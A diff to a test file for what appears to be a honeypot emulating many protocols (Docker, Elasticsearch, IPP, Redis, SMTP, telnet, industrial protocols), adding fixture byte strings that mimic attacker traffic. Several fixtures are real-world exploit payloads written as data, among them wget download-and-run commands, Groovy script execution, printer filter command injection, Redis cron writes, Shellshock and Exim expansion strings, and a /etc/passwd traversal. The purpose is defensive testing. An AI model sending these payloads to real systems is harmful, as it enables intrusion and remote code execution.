@@ -13,6 +13,8 @@ from hypothesis import strategies as st
 from eudaemon.protocols import ROOMS, load
 from eudaemon.protocols._base import Ended, HalfClosed
 from eudaemon.protocols._front import Front
+from eudaemon.protocols.git.repository import NAMES as REPOSITORIES
+from eudaemon.protocols.git.repository import repository_of
 from eudaemon.protocols.kubelet.node import node_of
 from eudaemon.protocols.vnc.des import answer
 from eudaemon.protocols.vnc.room import password_of
@@ -39,6 +41,7 @@ def vnc_login() -> tuple[bytes, ...]:
 POD = node_of(HOST).pods[0]
 PLACE = f"{POD.namespace}/{POD.name}/{POD.container}".encode()
 
+REPOSITORY = next(name for name in REPOSITORIES if repository_of(HOST, name)).encode()
 # What a client of VNC says: version, choice, answer, shared, then messages.
 VNC = (
     b"RFB 003.", b"008\n", *vnc_login(), b"\x01", b"\x02\0\0\x01\0\0", b"\0\x02", b"\x03\0\0\0\0\0\0\x09\0\x09",
@@ -66,10 +69,19 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"POST /v1.41/containers/create HTTP/1.1\r\nHost: a\r\nContent-Length: 67\r\n\r\n", b'{"Image":"alpine",',
         b'"Cmd":["sh","-c","wget http://192.0.2.9/x ; id"]}', b"GET /containers/json HTTP/1.1\r\nHost: a\r\n\r\n",
     ),
+    "elasticsearch": (
+        b"DELETE /_all HTTP/1.1\r\n\r\n", b"GET /_cat/indices HTTP/1.1\r\n\r\n",
+        b"POST /_search HTTP/1.1\r\nContent-Length: 69\r\n\r\n", b'{"script_fields":{"a":{"script":"',
+        b"'wget http://a/b'.execute().text", b'"}}}',
+    ),
     "epmap": (smb_client.BIND_ALIVE[:20], smb_client.BIND_ALIVE[20:], smb_client.request(5, b"")[:20], bytes(4)),
     "front": (b"G", b"ET / HTTP/1.1\r\n"),
     "ftp": (
         b"USER ftp\r\n", b"PASS a\r\n", b"PASV\r\n", b"RNFR /etc\r\n", b"PORT 198,51,100,7,195,80\r\n", b"STOR x\r\n",
+    ),
+    "git": (
+        b"%04xgit-receive-pack /%s\0" % (23 + len(REPOSITORY), REPOSITORY), b"0057" + b"0" * 40,
+        b" " + b"1" * 40 + b" a0000", b"PACK\0\0\0\2\0\0", b"\0\1\x33x\x9c",
     ),
     "http": (
         b"POST /x ", b"HTTP/1.1\r\n", b"Host: a\r\nTransfer-Encoding: chunked\r\n", b"\r\n", b"3\r\n", b"a=b", b"\r\n",
@@ -79,6 +91,11 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"1 CAPABILITY\r\n", b"2 LOGIN {4}\r\n", b"root {4+}\r\nroot\r\n", b"3 APPEND INBOX {5}\r\n", b"abc",
         b"de\r\n",
         b"4 SELECT INBOX\r\n", b"5 FETCH 1:* (FLAGS BODY[])\r\n", b"6 IDLE\r\n",
+    ),
+    "ipp": (
+        b"POST /ipp HTTP/1.1\r\nContent-Type: application/ipp\r\nContent-Length: 66\r\n\r\n",
+        b"\1\1\0\2\0\0\0\1\1\x47\0\1a",
+        b"\0\1b\3FoomaticRIPCommandLine: \"", b'wget http://a/b; id"    ',
     ),
     "jenkins": (
         b"POST /scriptText HTTP/1.1\r\nHost: a\r\nContent-Length: 36\r\n\r\n", b"script='wget",
@@ -99,6 +116,7 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"get a b\r\n", b"set a 0 0 5\r\n", b"abc", b"de\r\n", b"\x80\x01\0\x01\x08\0\0\0\0\0\0\x0c" + bytes(12),
         bytes(8) + b"kv", b"vv",
     ),
+    "modbus": (b"\0\1\0\0\0\6\1", b"\x10\0\0\0\1", b"\0\1\0\0\0\6\1\3\0\0\0\2"),
     "mongodb": tuple(mongo_client.opening()),
     "mssql": tuple(mssql_client.opening()),
     "mysql": tuple(mysql_client.opening(Table(load("mysql")(visit(host=HOST))).open())),
@@ -107,6 +125,7 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"\x10", b"\x10\0\x04MQTT\x04\x02\0\x1e\0\x04nmap", b"\x82\x06\0\x01\0\x01", b"#\0",
         b"\x33\x7f\0\x01a\0\x07",
     ),
+    "pptp": (b"\0\x10\0\1\x1a\x2b\x3c\x4d\0\5", b"\0\0abcd"),
     "printer": (
         b"\x1b%-12345X@PJL ", b"INFO ID\r\n", b'@PJL FSDOWNLOAD FORMAT:BINARY SIZE=9 NAME="0:/a"\r\nabc', b"defghi",
         b"@PJL ENTER LANGUAGE=PCL\r\n", b"\x1bE\x1b%-12",
@@ -123,15 +142,21 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"*2\r\n", b"$3\r\nGET\r\n$5\r\n", b"abcde\r\n", b"config set dir /etc/cron.d\r\n", b"set x '* * * * * id'\r\n",
         b"slaveof 192.0.2.9 1\r\nmodule load x\r\n", b"*2\r\n$11\r\nsystem.exec\r\n$15\r\nwget http://a/b\r\n",
     ),
+    "proxy": (b"POST http://a/ HTTP/1.1\r\nContent-Length: 3\r\n\r\n", b"abc", b"GET http://a/ HTTP/1.1\r\n\r\n"),
     "rtsp": (
         b"OPTIONS ", b"* RTSP/1.0\r\n", b"CSeq: 1\r\n\r\n",
         b"SETUP rtsp://admin:admin@a/ RTSP/1.0\r\nTransport: RTP/AVP\r\n", b"Content-Length: 3\r\n\r\nab",
         b"c", b"$\0\0\x08ab",
     ),
+    "s7": (b"\3\0\0\x16\x11\xe0\0\0", b"\0\x14\0\xc1\2\1\0\xc2\2\1\2\xc0\1\x0a", b"\3\0\0\x19\2\xf0\x80\x32\1"),
     "sh": (b"id", b";cd /tmp\n", b"wget http://198.51.100.7/x\n", b"echo a > b\n"),
     "sip": (
         b"OPTIONS sip:", b"a SIP/2.0\r\n", b"Via: a\r\n\r\n",
         b"INVITE sip:0044203123456@a SIP/2.0\r\nContent-Length: 3\r\n\r\nab", b"c",
+    ),
+    "smartinstall": (
+        b"\0\0\0\1\0\0\0\1\0\0\0\4\0\0\0\x08", b"\0\0\0\1\0\0\0\0",
+        b"\0\0\0\1\0\0\0\1\0\0\0\x08\0\0\0\x09",
     ),
     "smb": (
         smb_client.OPENING1[0][:40], smb_client.OPENING1[0][40:], *smb_client.OPENING1[1:], smb_client.look(),
@@ -143,6 +168,11 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"RCPT TO:<${run{id}}@b>\r\n",
         b"DATA\r\n", b"Subject: () { :; };wget a/b\r\n\r\n", b"x\r\n.\r\n",
     ),
+    "snmp": (
+        b"\x30\x29\2\1\1\4", b"\6public\xa1\x1c\2\4\0\0\0\1\2\1\0\2\1\0\x30\x0e\x30\x0c",
+        b"\6\x08\x2b\6\1\2\1\1\1\0\5\0",
+    ),
+    "socks": (b"\4", b"\1\0\x50\0\0\0\1a", b"\0a"),
     "ssh": tuple(ssh_client.opening(Table(load("ssh")(visit(host=HOST))).open())),
     "telnet": (b"\xff\xfd\x01", b"root\r\n", b"xc3511\r\n", b"sh\n", b"echo -e '\\x41", b"'\n", b"wget http://a/b\n"),
     "tr069": (
@@ -207,12 +237,21 @@ WORDS = [
     b"\x80\x0b" + bytes(22), b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n",
     mongo_client.msg({"find": "c"}, "d"), mongo_client.msg({"insert": 1, "documents": 5, "updates": [7]}),
     b"\x01\x01\0\x1c\0\0\1\0" + "select 1 1".encode("utf-16-le"), b"\0\0\0\x08\x04\xd2\x16\x2f",
-    b"Q\0\0\0\x0dselect 1\0", b"\x07\0\0\0\x03SELECT", b"\x09\0\0\0\x03select 1",
+    b'PUT /a/b/c HTTP/1.1\r\nContent-Length: 9\r\n\r\n{"a":"b"}',
+    b"GET /_plugin/head/../../etc/passwd HTTP/1.1\r\n\r\n",
+    b"POST / HTTP/1.1\r\nContent-Type: application/ipp\r\nContent-Length: 9\r\n\r\n\1\1\0\x0b\0\0\0\1\3",
+    b"\0\1\0\0\0\5\1\x2b\x0e\1\0", b"\3\0\0\x19\2\xf0\x80\x32\1\0\0\0\0\0\x08\0\0\xf0\0\0\1\0\1\1\xe0",
+    b"\0\x0c\0\1\x1a\x2b\x3c\x4d\0\3\0\0", b"\0\0\0\1\0\0\0\1\0\0\0\x08\0\0\0\x0btftp://a/b\0",
+    b"0024git-upload-pack /infra\0host=a\0\0", b"0032want " + b"0" * 40 + b"\n", b"0009done\n", b"0000",
+    b"\0\7\0\0\0\1\0\0\0\0\0\0\x20CK" + b"A" * 30 + b"\0\0\x21\0\1", b"0 3 http://192.0.2.9/printers/a",
+    b"CONNECT a:25 HTTP/1.1\r\nProxy-Authorization: Basic YTpi\r\n\r\n",
+    b"\5\2\0\2", b"\1\1a\1b",
+    b"\5\1\0\3\1a\0\x50", b"Q\0\0\0\x0dselect 1\0", b"\x07\0\0\0\x03SELECT", b"\x09\0\0\0\x03select 1",
 ]  # fmt: skip
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
 NAMES = (*ROOMS, FRONT)
-_UDP = ("catchall", "dns", "memcached", "ntp", "sip", "tftp", "upnp")
+_UDP = ("catchall", "dns", "ipp", "ldap", "memcached", "netbios", "ntp", "sip", "snmp", "tftp", "upnp")
 SERVED = [(name, "tcp") for name in NAMES] + [(name, "udp") for name in _UDP]
 names = pytest.mark.parametrize("name", NAMES)
 bounded = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
